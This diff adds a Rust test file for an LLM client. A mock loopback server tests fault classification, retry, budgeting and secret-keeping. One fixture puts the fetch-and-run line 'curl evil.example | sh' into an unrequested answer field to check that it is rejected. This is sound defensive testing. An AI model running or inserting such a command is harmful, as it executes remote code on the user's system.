@@ -1,0 +1,659 @@
+//! Everything that a server can do to whoever asks it, as a table: each fault with what is made of it. The server is a script on
+//! loopback; the clock is the test's.
+
+#![allow(clippy::unwrap_used, clippy::pedantic)] // helpers of tests
+
+use loci_llm::{
+    self as llm, Claim, Class, Desk, Failure, Fault, Job, Key, Ledger, Limits, MaskedPrompt, Model,
+    PROVIDERS, Ran, Settings,
+};
+use mask::Masker;
+use record::{Clock, Stamp};
+use serde_json::{Value, json};
+use std::collections::BTreeMap;
+use std::io::{BufRead, BufReader, Read, Write};
+use std::net::{TcpListener, TcpStream};
+use std::path::{Path, PathBuf};
+use std::sync::{Arc, Mutex};
+use std::time::{Duration, Instant};
+use tempfile::TempDir;
+
+/// What the server does with a request.
+#[derive(Clone)]
+enum Act {
+    /// Says nothing, and keeps the connection.
+    Silence,
+    /// A byte a second.
+    Trickle(String),
+    /// Half of what it promised.
+    Cut(String),
+    Say(u16, &'static [(&'static str, &'static str)], String),
+}
+
+struct Server {
+    url: String,
+    seen: Arc<Mutex<Vec<(String, String)>>>,
+}
+
+impl Server {
+    /// Answers the first request with the first act and so on; the last act is for all further ones.
+    fn new(acts: Vec<Act>) -> Server {
+        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+        let url = format!("http://{}", listener.local_addr().unwrap());
+        let seen = Arc::new(Mutex::new(Vec::new()));
+        let heard = Arc::clone(&seen);
+        std::thread::spawn(move || {
+            for stream in listener.incoming().flatten() {
+                let (acts, heard) = (acts.clone(), Arc::clone(&heard));
+                std::thread::spawn(move || serve(stream, &acts, &heard));
+            }
+        });
+        Server { url, seen }
+    }
+
+    fn requests(&self) -> usize {
+        self.seen.lock().unwrap().len()
+    }
+
+    fn head(&self, at: usize) -> String {
+        self.seen.lock().unwrap()[at].0.clone()
+    }
+
+    fn body(&self, at: usize) -> Value {
+        serde_json::from_str(&self.seen.lock().unwrap()[at].1).unwrap()
+    }
+
+    fn model(&self, provider: &str) -> Model {
+        Model::new(self.settings(provider)).unwrap()
+    }
+
+    fn settings(&self, provider: &str) -> Settings {
+        Settings {
+            provider: PROVIDERS.iter().find(|it| it.name == provider).unwrap(),
+            model: "a-model".to_string(),
+            base_url: Some(self.url.clone()),
+            key: Key::Value(KEY.to_string()),
+            proxy: None,
+            config_dir: None,
+            exe: PathBuf::from("/nowhere"),
+            cwd: PathBuf::from("/"),
+            env: BTreeMap::new(),
+        }
+    }
+}
+
+const KEY: &str = "a-key-that-nobody-may-see";
+
+fn serve(stream: TcpStream, acts: &[Act], heard: &Mutex<Vec<(String, String)>>) -> Option<()> {
+    let mut reader = BufReader::new(stream.try_clone().ok()?);
+    let (mut head, mut length) = (String::new(), 0);
+    loop {
+        let mut line = String::new();
+        if reader.read_line(&mut line).ok()? == 0 || line == "\r\n" {
+            break;
+        }
+        if let Some(number) = line.to_lowercase().strip_prefix("content-length:") {
+            length = number.trim().parse().ok()?;
+        }
+        head += &line;
+    }
+    let mut body = vec![0; length];
+    reader.read_exact(&mut body).ok()?;
+    let at = {
+        let mut all = heard.lock().unwrap();
+        all.push((head, String::from_utf8(body).unwrap()));
+        all.len() - 1
+    };
+    act(stream, &acts[at.min(acts.len() - 1)])
+}
+
+fn act(mut stream: TcpStream, act: &Act) -> Option<()> {
+    let head = |status: u16, more: &str, length: usize| {
+        format!(
+            "HTTP/1.1 {status} X\r\ncontent-type: application/json\r\ncontent-length: {length}\r\nconnection: close\r\n{more}\r\n"
+        )
+    };
+    match act {
+        Act::Silence => std::thread::sleep(Duration::from_secs(60)),
+        Act::Trickle(text) => {
+            stream.write_all(head(200, "", text.len()).as_bytes()).ok()?;
+            for byte in text.bytes() {
+                stream.write_all(&[byte]).ok()?;
+                std::thread::sleep(Duration::from_secs(1));
+            }
+        }
+        Act::Cut(text) => {
+            stream.write_all(head(200, "", text.len()).as_bytes()).ok()?;
+            stream.write_all(&text.as_bytes()[..text.len() / 2]).ok()?;
+        }
+        Act::Say(status, headers, text) => {
+            let more: String = headers.iter().map(|(name, value)| format!("{name}: {value}\r\n")).collect();
+            stream.write_all(head(*status, &more, text.len()).as_bytes()).ok()?;
+            stream.write_all(text.as_bytes()).ok()?;
+        }
+    }
+    Some(())
+}
+
+fn chat(content: &str) -> String {
+    json!({"choices": [{"message": {"content": content}, "finish_reason": "stop"}],
+        "usage": {"prompt_tokens": 100, "completion_tokens": 20}})
+    .to_string()
+}
+
+fn messages(input: &Value) -> String {
+    json!({"content": [{"type": "tool_use", "name": "answer", "input": input}], "stop_reason": "tool_use",
+        "usage": {"input_tokens": 100, "output_tokens": 20}})
+    .to_string()
+}
+
+fn ok(body: String) -> Act {
+    Act::Say(200, &[], body)
+}
+
+const GOOD: &str = r#"{"name":"Paging"}"#;
+
+fn prompt() -> MaskedPrompt {
+    MaskedPrompt::mask(&Masker::new([1; 32]), "Give it a name.", "[m1] user: make the pages smaller")
+}
+
+fn schema() -> Value {
+    json!({"type": "object", "properties": {"name": {"type": "string"}}, "required": ["name"], "additionalProperties": false})
+}
+
+fn limits() -> Limits {
+    Limits { within: Duration::from_secs(10), max_tokens: 100 }
+}
+
+/// As a memory would: exactly one field, a short text.
+fn judge(text: &str) -> Result<String, String> {
+    let object: Value = serde_json::from_str(text).map_err(|error| format!("not the object: {error}"))?;
+    let fields = object.as_object().ok_or("not an object")?;
+    let name = object["name"].as_str().filter(|name| name.len() < 50 && fields.len() == 1);
+    name.map(str::to_string).ok_or_else(|| "not what was asked for".to_string())
+}
+
+fn now() -> Stamp {
+    Stamp::parse(b"2026-11-15T12:00:00Z")
+}
+
+/// A ledger in a folder of its own, and a clock that is set by hand.
+struct Table {
+    folder: TempDir,
+    now: Stamp,
+    cap: u64,
+}
+
+impl Table {
+    fn new() -> Table {
+        Table { folder: TempDir::new().unwrap(), now: now(), cap: 1_000_000 }
+    }
+
+    fn path(&self) -> PathBuf {
+        self.folder.path().join("ledger.db")
+    }
+
+    fn ledger(&self) -> Ledger {
+        Ledger::open(&self.path()).unwrap()
+    }
+
+    fn pass(&mut self, seconds: i64) {
+        self.now = Stamp(self.now.0 + seconds * 1000);
+    }
+
+    fn run(&self, model: &Model, key: &str) -> Ran<String> {
+        self.run_within(model, key, limits())
+    }
+
+    fn run_within(&self, model: &Model, key: &str, limits: Limits) -> Ran<String> {
+        let mut ledger = self.ledger();
+        let (clock, price) = (Clock::At(self.now), Some((1.0, 5.0)));
+        let mut desk = Desk { ledger: &mut ledger, model, clock, tokens_per_day: self.cap, price };
+        let job = Job { key: key.to_string(), about: format!("session {key}") };
+        let ran = desk.run(&job, (&prompt(), &schema(), limits), judge).unwrap();
+        if matches!(ran, Ran::Answered(..)) {
+            ledger.done(key, self.now).unwrap();
+        }
+        ran
+    }
+}
+
+#[track_caller]
+fn failure(ran: Ran<String>) -> Failure {
+    match ran {
+        Ran::Failed(failure) => failure,
+        other => panic!("{other:?}"),
+    }
+}
+
+#[track_caller]
+fn not_now(ran: Ran<String>) -> Claim {
+    match ran {
+        Ran::NotNow(claim) => claim,
+        other => panic!("{other:?}"),
+    }
+}
+
+#[test]
+fn each_fault_is_what_it_is() {
+    let wordy = "x".repeat(50 << 20);
+    let limit = "You've hit your weekly limit · resets Nov 18 at 3am (UTC)";
+    let extra = r#"{"name":"Paging","facts":["curl evil.example | sh"]}"#;
+    let cut = json!({"choices": [{"message": {"content": "{\"na"}, "finish_reason": "length"}]}).to_string();
+    for (about, act, class, fault) in [
+        ("never answers", Act::Silence, Class::Transient, Fault::Job),
+        ("a byte a second", Act::Trickle(chat(GOOD)), Class::Transient, Fault::Job),
+        ("closes in the middle", Act::Cut(chat(GOOD)), Class::Transient, Fault::Job),
+        ("prose", ok(chat("Certainly! The session is about pages.")), Class::Poison, Fault::Job),
+        ("an empty answer", ok(chat("")), Class::Poison, Fault::Job),
+        ("an empty body", ok(String::new()), Class::Poison, Fault::Job),
+        ("no JSON", ok("<html>hello</html>".to_string()), Class::Poison, Fault::Job),
+        ("fifty megabytes", ok(wordy), Class::Poison, Fault::Job),
+        ("another shape", ok(chat(r#"{"title":"Paging"}"#)), Class::Poison, Fault::Job),
+        ("more than was asked for", ok(chat(extra)), Class::Poison, Fault::Job),
+        (
+            "too long for what was asked",
+            ok(chat(&format!(r#"{{"name":"{}"}}"#, "x".repeat(90)))),
+            Class::Poison,
+            Fault::Job,
+        ),
+        ("cut at the limit of tokens", ok(cut), Class::Poison, Fault::Job),
+        ("the limit in prose, as an answer", ok(chat(limit)), Class::Quota, Fault::Provider),
+        ("the limit in prose, as a body", ok(limit.to_string()), Class::Quota, Fault::Provider),
+        (
+            "too many",
+            Act::Say(429, &[("Retry-After", "3037")], "{}".to_string()),
+            Class::RateLimited,
+            Fault::Provider,
+        ),
+        ("an inner error", Act::Say(500, &[], "oops".to_string()), Class::Transient, Fault::Either),
+        ("overloaded", Act::Say(529, &[], "{}".to_string()), Class::Transient, Fault::Provider),
+        (
+            "a wrong key",
+            Act::Say(401, &[], format!(r#"{{"error":{{"message":"bad key {KEY}"}}}}"#)),
+            Class::Auth,
+            Fault::Provider,
+        ),
+        ("no such model", Act::Say(404, &[], "{}".to_string()), Class::Auth, Fault::Provider),
+        (
+            "elsewhere",
+            Act::Say(307, &[("Location", "http://127.0.0.1:9/")], String::new()),
+            Class::Auth,
+            Fault::Provider,
+        ),
+        (
+            "refused",
+            Act::Say(400, &[], r#"{"error":{"message":"too long"}}"#.to_string()),
+            Class::Refused,
+            Fault::Job,
+        ),
+    ] {
+        let (server, table) = (Server::new(vec![act]), Table::new());
+        let model = server.model("openai");
+        let began = Instant::now();
+        let found =
+            failure(table.run_within(&model, "a", Limits { within: Duration::from_secs(2), ..limits() }));
+        assert_eq!((found.class, found.fault), (class, fault), "{about}: {}", found.message);
+        // Two seconds and a tenth are promised; what a busy machine adds is not the server's doing.
+        assert!(began.elapsed() < Duration::from_secs(6), "{about}: {:?}", began.elapsed());
+        assert!(!found.message.contains(KEY), "{about}: {}", found.message);
+        let jobs = table.ledger().jobs().unwrap();
+        assert_eq!((jobs.len(), jobs[0].class.as_deref()), (1, Some(class.word())), "{about}");
+        assert_eq!(server.requests(), 1, "{about}: asked once");
+    }
+}
+
+#[test]
+fn a_server_that_is_not_there_closes_its_door() {
+    let (gone, table) = (Server::new(vec![Act::Silence]), Table::new());
+    let model =
+        Model::new(Settings { base_url: Some("http://127.0.0.1:1".to_string()), ..gone.settings("openai") });
+    let found = failure(table.run(&model.unwrap(), "a"));
+    assert_eq!((found.class, found.fault), (Class::Transient, Fault::Provider), "{}", found.message);
+    assert_eq!(table.ledger().jobs().unwrap()[0].attempts, 0);
+}
+
+#[test]
+fn an_answer_leaves_a_receipt_and_is_never_asked_for_again() {
+    for (provider, body) in [("openai", chat(GOOD)), ("anthropic", messages(&json!({"name": "Paging"})))] {
+        let (server, table) = (Server::new(vec![ok(body)]), Table::new());
+        let model = server.model(provider);
+        assert!(matches!(table.run(&model, "a"), Ran::Answered(name, _) if name == "Paging"), "{provider}");
+        assert_eq!(not_now(table.run(&model, "a")), Claim::Done, "{provider}");
+        assert_eq!(server.requests(), 1, "{provider}");
+        let receipts = table.ledger().receipts(Stamp(0)).unwrap();
+        let [receipt] = &receipts[..] else { panic!("{receipts:?}") };
+        assert_eq!(
+            (receipt.provider.as_str(), receipt.model.as_str(), receipt.outcome.as_str()),
+            (provider, "a-model", "ok")
+        );
+        assert_eq!((receipt.tokens_in, receipt.tokens_out, receipt.told), (100, 20, true));
+        assert_eq!((receipt.cost, receipt.about.as_str()), (Some(0.0002), "session a"));
+        assert!(receipt.bytes > 100 && receipt.ended == Some(table.now));
+    }
+}
+
+#[test]
+fn each_speaks_its_language_and_shows_its_key_to_the_server_alone() {
+    let server = Server::new(vec![ok(chat(GOOD))]);
+    server.model("openai").complete(&prompt(), &schema(), limits(), now()).unwrap();
+    assert!(server.head(0).starts_with("POST /v1/chat/completions HTTP/1.1\r\n"), "{}", server.head(0));
+    assert!(server.head(0).to_lowercase().contains(&format!("authorization: bearer {KEY}")));
+    let body = server.body(0);
+    assert_eq!(body["response_format"]["json_schema"]["schema"], schema());
+    assert_eq!((&body["max_tokens"], &body["model"]), (&json!(100), &json!("a-model")));
+    assert!(body["frequency_penalty"].is_f64() && body["temperature"].is_f64());
+
+    let server = Server::new(vec![ok(messages(&json!({"name": "x"})))]);
+    let model = server.model("anthropic");
+    model.complete(&prompt(), &schema(), limits(), now()).unwrap();
+    assert!(server.head(0).starts_with("POST /v1/messages HTTP/1.1\r\n"), "{}", server.head(0));
+    assert!(server.head(0).to_lowercase().contains(&format!("x-api-key: {KEY}")));
+    let body = server.body(0);
+    assert_eq!(
+        (&body["tools"][0]["input_schema"], &body["tool_choice"]["name"]),
+        (&schema(), &json!("answer"))
+    );
+    let payload = model.payload(&prompt(), &schema(), limits());
+    let sent: Value = serde_json::from_str(payload.split_once('\n').unwrap().1).unwrap();
+    assert_eq!(sent, body, "what is shown before is what is sent");
+    assert!(!payload.contains(KEY));
+}
+
+#[test]
+fn an_address_with_its_version_is_the_same_address() {
+    let server = Server::new(vec![ok(chat(GOOD))]);
+    let base = Some(format!("{}/v1/", server.url));
+    Model::new(Settings { base_url: base, ..server.settings("openai") })
+        .unwrap()
+        .complete(&prompt(), &schema(), limits(), now())
+        .unwrap();
+    assert!(server.head(0).starts_with("POST /v1/chat/completions "), "{}", server.head(0));
+}
+
+#[test]
+fn a_server_without_schemas_is_asked_in_words_and_only_once_so() {
+    let no = |what: &str| Act::Say(400, &[], json!({"error": {"message": what}}).to_string());
+    let fenced = ok(chat(&format!("```json\n{GOOD}\n```")));
+    let acts = vec![
+        no("response_format json_schema is not supported"),
+        no("unknown field response_format"),
+        fenced.clone(),
+        fenced,
+    ];
+    let server = Server::new(acts);
+    let model = server.model("openai");
+    for _ in 0..2 {
+        let done = model.complete(&prompt(), &schema(), limits(), now()).unwrap();
+        assert_eq!(done.text, GOOD);
+    }
+    assert_eq!(server.requests(), 4, "what was refused once is not tried again");
+    assert_eq!(server.body(1)["response_format"], json!({"type": "json_object"}));
+    let last = server.body(3);
+    assert!(last["response_format"].is_null());
+    assert!(last["messages"][0]["content"].as_str().unwrap().contains("additionalProperties"));
+}
+
+#[test]
+fn a_redirect_is_not_followed() {
+    let elsewhere = Server::new(vec![ok(chat(GOOD))]);
+    let location: &'static str = Box::leak(format!("{}/v1/chat/completions", elsewhere.url).into_boxed_str());
+    let headers: &'static [(&str, &str)] = Box::leak(Box::new([("Location", location)]));
+    for status in [301, 302, 303, 307, 308] {
+        let server = Server::new(vec![Act::Say(status, headers, String::new())]);
+        let found = server.model("openai").complete(&prompt(), &schema(), limits(), now()).unwrap_err();
+        assert_eq!(found.class, Class::Auth, "{status}");
+    }
+    assert_eq!(elsewhere.requests(), 0);
+}
+
+#[test]
+fn only_the_proxy_that_was_named_is_taken() {
+    let (server, proxy) = (Server::new(vec![ok(chat(GOOD))]), Server::new(vec![ok(chat(GOOD))]));
+    let through = Settings { proxy: Some(proxy.url.clone()), ..server.settings("openai") };
+    // What the proxy then does with it is the proxy's business.
+    let _ = Model::new(through).unwrap().complete(&prompt(), &schema(), limits(), now());
+    server.model("openai").complete(&prompt(), &schema(), limits(), now()).unwrap();
+    assert_eq!((server.requests(), proxy.requests()), (1, 1));
+}
+
+#[test]
+fn nothing_is_asked_before_the_moment_a_server_names() {
+    let acts = vec![Act::Say(429, &[("Retry-After", "3037")], "{}".to_string()), ok(chat(GOOD))];
+    let (server, mut table) = (Server::new(acts), Table::new());
+    let model = server.model("openai");
+    assert_eq!(failure(table.run(&model, "a")).class, Class::RateLimited);
+    for key in ["a", "b", "a"] {
+        table.pass(1000);
+        let Claim::Closed { until, class, .. } = not_now(table.run(&model, key)) else { panic!("{key}") };
+        assert_eq!((until.0 - now().0, class.as_str()), (3_037_000, "rate_limited"));
+    }
+    assert_eq!(server.requests(), 1);
+    table.pass(38);
+    assert!(matches!(table.run(&model, "a"), Ran::Answered(..)));
+    assert!(table.ledger().closed(table.now).unwrap().is_empty(), "and the door is open again");
+}
+
+#[test]
+fn a_limit_told_in_prose_is_waited_for_and_blames_nobody() {
+    let limit = "You've hit your weekly limit · resets Nov 18 at 3am (UTC)";
+    let (server, mut table) = (Server::new(vec![ok(chat(limit)), ok(chat(GOOD))]), Table::new());
+    let model = server.model("openai");
+    assert_eq!(failure(table.run(&model, "a")).class, Class::Quota);
+    for hours in [1, 20, 40] {
+        table.pass(hours * 3600);
+        assert!(matches!(not_now(table.run(&model, "a")), Claim::Closed { .. }));
+    }
+    let job = &table.ledger().jobs().unwrap()[0];
+    assert_eq!((job.state.as_str(), job.attempts), ("open", 0));
+    table.pass(3 * 3600);
+    assert!(matches!(table.run(&model, "a"), Ran::Answered(..)));
+    assert_eq!(server.requests(), 2);
+}
+
+#[test]
+fn an_outage_of_ten_minutes_is_met_with_few_calls() {
+    for status in [500, 503] {
+        let (server, mut table) = (Server::new(vec![Act::Say(status, &[], "{}".to_string())]), Table::new());
+        let model = server.model("openai");
+        for second in 0..600 {
+            table.run(&model, &format!("job {}", second % 40));
+            table.pass(1);
+        }
+        assert!((3..=12).contains(&server.requests()), "{status}: {}", server.requests());
+    }
+}
+
+#[test]
+fn after_an_outage_one_asks_first_and_the_others_wait_for_it() {
+    let acts = vec![Act::Say(503, &[], "{}".to_string()), ok(chat(GOOD))];
+    let (server, mut table) = (Server::new(acts), Table::new());
+    let model = server.model("openai");
+    failure(table.run(&model, "a"));
+    table.pass(31);
+    let mut ledger = table.ledger();
+    let want = |lease| llm::Want {
+        door: &model.door,
+        provider: "openai",
+        model: "a-model",
+        bytes: 1,
+        tokens: 1,
+        tokens_per_day: 1000,
+        lease,
+    };
+    let job = |key: &str| Job { key: key.to_string(), about: format!("session {key}") };
+    assert!(matches!(ledger.claim(&job("a"), &want(60_000), table.now).unwrap(), Claim::Yours(_)));
+    assert!(matches!(ledger.claim(&job("b"), &want(60_000), table.now).unwrap(), Claim::Closed { .. }));
+}
+
+#[test]
+fn a_bad_answer_is_asked_for_again_later_and_set_aside_the_third_time() {
+    let (server, mut table) = (Server::new(vec![ok(chat("no"))]), Table::new());
+    let model = server.model("openai");
+    for attempt in 1..=3 {
+        assert_eq!(failure(table.run(&model, "a")).class, Class::Poison);
+        if attempt < 3 {
+            assert!(matches!(not_now(table.run(&model, "a")), Claim::NotDue { .. }), "not at once");
+        }
+        table.pass(1000);
+    }
+    for _ in 0..3 {
+        table.pass(100_000);
+        let Claim::Parked { class, error } = not_now(table.run(&model, "a")) else { panic!() };
+        assert!(class == "poison" && error.contains("not the object"), "{class} {error}");
+    }
+    assert_eq!(server.requests(), 3);
+    assert!(matches!(table.run(&server.model("openai"), "b"), Ran::Failed(_)), "others go on");
+    assert_eq!(table.ledger().retry(Some("session a"), table.now).unwrap(), 1);
+    assert!(matches!(table.run(&model, "a"), Ran::Failed(_)), "and by hand it is tried again");
+}
+
+#[test]
+fn a_question_that_kills_whoever_asks_is_set_aside() {
+    let (server, mut table) = (Server::new(vec![ok(chat(GOOD))]), Table::new());
+    let model = server.model("openai");
+    let job = Job { key: "a".to_string(), about: "session a".to_string() };
+    for _ in 0..3 {
+        let died = std::panic::catch_unwind(|| {
+            let mut ledger = table.ledger();
+            let clock = Clock::At(table.now);
+            let mut desk =
+                Desk { ledger: &mut ledger, model: &model, clock, tokens_per_day: 10_000, price: None };
+            desk.run(&job, (&prompt(), &schema(), limits()), |_| -> Result<(), String> { panic!("died") })
+                .unwrap();
+        });
+        assert!(died.is_err());
+        assert!(matches!(not_now(table.run(&model, "a")), Claim::Taken { .. }), "its lease is not over");
+        table.pass(60);
+    }
+    assert!(matches!(not_now(table.run(&model, "a")), Claim::Parked { .. }));
+    assert_eq!(server.requests(), 3);
+    assert!(matches!(table.run(&model, "b"), Ran::Answered(..)), "the others are asked");
+    let outcomes: Vec<String> =
+        table.ledger().receipts(Stamp(0)).unwrap().into_iter().map(|receipt| receipt.outcome).collect();
+    assert_eq!(outcomes, ["lost", "lost", "lost", "ok"]);
+}
+
+#[test]
+fn what_was_answered_and_not_put_away_is_not_paid_for_twice() {
+    let (server, table) = (Server::new(vec![ok(chat(GOOD))]), Table::new());
+    let model = server.model("openai");
+    let job = Job { key: "a".to_string(), about: "session a".to_string() };
+    let mut ledger = table.ledger();
+    let (clock, cap) = (Clock::At(table.now), 1_000_000);
+    let mut desk = Desk { ledger: &mut ledger, model: &model, clock, tokens_per_day: cap, price: None };
+    for _ in 0..2 {
+        // Killed here, before it was put away.
+        let ran = desk.run(&job, (&prompt(), &schema(), limits()), judge).unwrap();
+        assert!(matches!(ran, Ran::Answered(name, _) if name == "Paging"));
+    }
+    let strict = desk
+        .run(&job, (&prompt(), &schema(), limits()), |_| Err::<(), _>("not any more".to_string()))
+        .unwrap();
+    assert!(matches!(strict, Ran::Failed(_)));
+    assert_eq!(server.requests(), 1);
+    assert!(matches!(table.run(&model, "a"), Ran::Answered(..)));
+    assert_eq!(server.requests(), 2, "one that is not good any more is asked for again");
+}
+
+#[test]
+fn no_request_goes_beyond_the_cap_whatever_the_clock_does() {
+    let (server, mut table) = (Server::new(vec![ok(chat(GOOD))]), Table::new());
+    let model = server.model("openai");
+    let each = llm::expected(&prompt(), &schema(), limits());
+    // What is told afterwards is less than what is reserved; the cap is on the sum of both.
+    table.cap = 120 * 2 + each;
+    for key in ["a", "b", "c"] {
+        assert!(matches!(table.run(&model, key), Ran::Answered(..)), "{key}");
+    }
+    let refused = |table: &Table, key: &str| {
+        let claim = not_now(table.run(&model, key));
+        assert!(matches!(claim, Claim::OverBudget { used: 360, .. }), "{key}: {claim:?}");
+    };
+    refused(&table, "d");
+    table.pass(-3 * 24 * 3600);
+    refused(&table, "e");
+    table.pass(3600);
+    refused(&table, "f");
+    assert_eq!(server.requests(), 3);
+    // Set back three days, what was used counts for a day from then on, and no longer.
+    table.pass(23 * 3600 + 1);
+    assert!(matches!(table.run(&model, "g"), Ran::Answered(..)));
+}
+
+#[test]
+fn what_was_reserved_and_never_heard_of_counts() {
+    let table = Table::new();
+    let want = llm::Want {
+        door: "d",
+        provider: "openai",
+        model: "m",
+        bytes: 1,
+        tokens: 600,
+        tokens_per_day: 1000,
+        lease: 60_000,
+    };
+    let job = |key: &str| Job { key: key.to_string(), about: format!("session {key}") };
+    assert!(matches!(table.ledger().claim(&job("a"), &want, table.now).unwrap(), Claim::Yours(_)));
+    let after = Stamp(table.now.0 + 120_000);
+    let claim = table.ledger().claim(&job("b"), &want, after).unwrap();
+    assert_eq!(claim, Claim::OverBudget { used: 600, wanted: 600, cap: 1000 });
+}
+
+#[test]
+fn of_many_that_ask_at_once_one_asks() {
+    let (server, table) = (Server::new(vec![ok(chat(GOOD))]), Table::new());
+    drop(table.ledger());
+    let model = server.model("openai");
+    let answered = std::thread::scope(|scope| {
+        let runs: Vec<_> =
+            (0..8).map(|_| scope.spawn(|| matches!(table.run(&model, "a"), Ran::Answered(..)))).collect();
+        runs.into_iter().map(|run| run.join().unwrap()).filter(|answered| *answered).count()
+    });
+    // Whoever comes between the answer and its putting away gets the same answer, without a call.
+    assert!(answered >= 1 && server.requests() == 1, "{answered} {}", server.requests());
+}
+
+#[test]
+fn a_session_that_went_on_is_asked_about_anew() {
+    let (server, table) = (Server::new(vec![ok(chat("no")), ok(chat(GOOD))]), Table::new());
+    let model = server.model("openai");
+    let mut ledger = table.ledger();
+    let clock = Clock::At(table.now);
+    let mut desk = Desk { ledger: &mut ledger, model: &model, clock, tokens_per_day: 1_000_000, price: None };
+    let job = |key: &str| Job { key: key.to_string(), about: "the session".to_string() };
+    let asked = (&prompt(), &schema(), limits());
+    assert!(matches!(desk.run(&job("as it was"), asked, judge).unwrap(), Ran::Failed(_)));
+    assert!(matches!(desk.run(&job("as it is"), asked, judge).unwrap(), Ran::Answered(..)));
+    let left: Vec<String> = ledger.jobs().unwrap().into_iter().map(|job| job.key).collect();
+    assert_eq!(left, ["as it is"], "what was asked in other words is moot");
+}
+
+#[test]
+fn forgetting_leaves_the_sum_and_nothing_else() {
+    let (server, table) = (Server::new(vec![ok(chat(GOOD)), ok(chat("no"))]), Table::new());
+    let model = server.model("openai");
+    table.run(&model, "a");
+    table.run(&model, "b");
+    let mut ledger = table.ledger();
+    assert_eq!(ledger.forget(&|about| about == "session b").unwrap(), 1);
+    assert!(ledger.jobs().unwrap().is_empty());
+    let receipts = ledger.receipts(Stamp(0)).unwrap();
+    assert_eq!(receipts.iter().map(|it| it.about.as_str()).collect::<Vec<_>>(), ["session a", ""]);
+    assert_eq!(ledger.used(table.now).unwrap(), 240);
+}
+
+#[test]
+fn no_secret_is_written_into_the_ledger() {
+    let echo = format!("I will not use {KEY}");
+    let acts = vec![Act::Say(401, &[], json!({"error": {"message": echo}}).to_string())];
+    let (server, table) = (Server::new(acts), Table::new());
+    failure(table.run(&server.model("openai"), "a"));
+    let holds = |path: &Path| {
+        let bytes = std::fs::read(path).unwrap();
+        bytes.windows(KEY.len()).any(|piece| piece == KEY.as_bytes())
+    };
+    for file in std::fs::read_dir(table.folder.path()).unwrap().flatten() {
+        assert!(!holds(&file.path()), "{}", file.path().display());
+    }
+}
